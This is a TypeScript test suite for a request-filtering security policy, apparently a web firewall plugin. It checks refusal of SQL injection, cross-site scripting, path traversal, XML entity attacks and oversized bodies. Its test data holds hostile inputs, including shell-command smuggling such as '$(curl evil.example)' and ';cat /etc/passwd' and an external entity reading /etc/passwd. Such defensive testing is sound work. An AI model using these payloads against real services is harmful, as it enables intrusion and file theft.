import { expect, test } from 'vitest'
import { call, remembering } from '../testing.js'
import { config } from './config.js'
import policy from './policy.js'

const notes: string[] = []
const deps = remembering({ note: (_, text) => void notes.push(text) })
const hooks = (settings: object = {}) => policy.compile(config.parse(settings), deps)
const body = (type: string, text: string | Buffer, settings: object = {}, headers: Record<string, string> = {}) =>
  hooks(settings).onRequestBody!(call({ 'content-type': type, ...headers }), {
    bytes: Buffer.from(text),
    json: undefined,
  })
const denied = (detail: string) => ({ error: 'policy_denied', detail })
const JSON_TYPE = 'application/json; charset=utf-8'

test.each([
  [{ query: 'q=1%27%20or%201%3D1--' }, 'The parameter "q" looks like SQL.'],
  [{ query: 'a=b&%3Cscript%3E=1' }, 'The name of a parameter looks like a script.'],
  [{ path: '/acme/files/..%2f..%2fetc%2fpasswd' }, 'The path looks like a path that climbs.'],
  [{ headers: { 'user-agent': '$(curl evil.example)' } }, 'The header user-agent looks like a command of a shell.'],
  [{ headers: { 'x-a': ['b', '<svg onload=x>'] } }, 'The header x-a looks like a script.'],
  [{ headers: { cookie: "a=b; sid=' or 1=1--" } }, 'The cookie "sid" looks like SQL.'],
])('%j is refused', ({ headers = {}, ...more }: object & { headers?: object }, detail) =>
  expect(hooks().onRequest!(call(headers as Record<string, string>, more))).toEqual(denied(detail)),
)

test.each([
  [JSON_TYPE, `{"a":{"b":["x","' or 1=1--"]}}`, 'The member "b" looks like SQL.'],
  [JSON_TYPE, `{"<script>":1}`, 'The name of a member looks like a script.'],
  ['application/json', `{"a": "' or 1=1--", }`, 'The body looks like SQL.'],
  [
    'Application/X-WWW-Form-URLencoded',
    'a=1&b=%3Bcat+%2Fetc%2Fpasswd',
    'The field "b" looks like a command of a shell.',
  ],
  [
    'multipart/form-data; boundary=xx',
    '--xx\r\nContent-Disposition: form-data; name="c"\r\n\r\n<script>\r\n--xx--',
    'The field "c" looks like a script.',
  ],
  ['text/xml', `<a><b c="' or 1=1--"/></a>`, 'The parameter'],
  ['application/xml', '<a><b>&lt;script&gt;</b></a>', 'The element "b" looks like a script.'],
  ['application/soap+xml', '<a><![CDATA[<script>]]></a>', 'The element "a" looks like a script.'],
  ['application/octet-stream', "' or 1=1--", 'The body looks like SQL.'],
])('a body of %s that holds %s is refused', (type, text, detail) => {
  const reply = body(type, text) as { error: string; detail: string }
  expect(reply.error).toBe('policy_denied')
  expect(reply.detail).toContain(detail === 'The parameter' ? 'looks like SQL' : detail)
})

test.each([
  [JSON_TYPE, '['.repeat(70) + ']'.repeat(70), 'nested deeper than 64'],
  [JSON_TYPE, `[${'1,'.repeat(100_000)}1]`, 'more than 100000 values'],
  ['text/xml', '<a>'.repeat(70), 'nested deeper than 64'],
  ['text/xml', `<r>${'<a b="c"/>'.repeat(60_000)}</r>`, 'more than 100000 elements'],
  ['text/xml', '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>', 'a document type'],
  ['text/xml', '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>', 'a document type'],
  ['text/xml', Buffer.from('<a/>', 'utf16le'), 'not in UTF-8'],
])('a %s body that is built to exhaust is refused', (type, text, fault) =>
  expect((body(type, text) as { detail: string }).detail).toContain(fault),
)

test('what nobody would mistake passes', () => {
  const headers = {
    'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)',
    cookie: 'a=b; theme=dark',
    accept: '*/*',
    host: 'x',
  }
  expect(hooks().onRequest!(call(headers, { query: "name=O'Brien&page=2", path: '/acme/a/b' }))).toBeUndefined()
  expect(body(JSON_TYPE, '{"text":"It\'s fine; select the best -- or not","n":5,"x":null}')).toBeUndefined()
  expect(body('text/xml', '<?xml version="1.0"?><!-- c --><a x="1"><b>fine</b><c/></a>')).toBeUndefined()
  expect(body('image/png', Buffer.from([0x89, 0x50, 0, 0x27]))).toBeUndefined()
  expect(body('text/plain', '')).toBeUndefined()
  const file = '--x\r\nContent-Disposition: form-data; name="f"; filename="a.html"\r\n\r\n<script>\r\n--x--'
  expect(body('multipart/form-data; boundary=x', file)).toBeUndefined()
})

test('fields, headers, places and attacks can be left out', () => {
  const attack = `{"html":"<script>","deep":{"html":["<script>"]}}`
  expect(body(JSON_TYPE, attack, { exceptFields: ['html'] })).toBeUndefined()
  expect(body(JSON_TYPE, attack, { checks: ['sql'] })).toBeUndefined()
  expect(body('text/xml', '<!DOCTYPE a><a/>', { documentTypes: 'pass' })).toBeUndefined()
  expect(hooks({ exceptHeaders: ['X-A'] }).onRequest!(call({ 'x-a': '<script>' }))).toBeUndefined()
  expect(hooks({ places: ['body'] }).onRequest!(call({}, { query: 'a=<script>' }))).toBeUndefined()
  expect(hooks({ places: ['query'] }).onRequestBody).toBeUndefined()
})

test('a packed body is not looked into, so it is not let in', () => {
  const packed = { 'content-encoding': 'gzip' }
  expect(body(JSON_TYPE, 'x', {}, packed)).toMatchObject({ error: 'unsupported_media_type' })
  expect(body(JSON_TYPE, '', {}, packed)).toBeUndefined()
  expect(body(JSON_TYPE, '{}', {}, { 'content-encoding': 'identity' })).toBeUndefined()
})

test('in report mode all pass, and the log is told', () => {
  notes.length = 0
  expect(body(JSON_TYPE, `{"q":"' or 1=1--"}`, { mode: 'report' })).toBeUndefined()
  expect(hooks({ mode: 'report' }).onRequest!(call({}, { query: 'a=<script>' }))).toBeUndefined()
  expect(notes).toEqual([
    'would be refused: The member "q" looks like SQL.',
    'would be refused: The parameter "a" looks like a script.',
  ])
})

test.each([{ checks: ['xpath'] }, { places: ['body', 'moon'] }, { mode: 'maybe' }, { maxDepth: 0 }, { maxValues: 0 }])(
  '%j is refused',
  settings => expect(config.safeParse(settings).success).toBe(false),
)
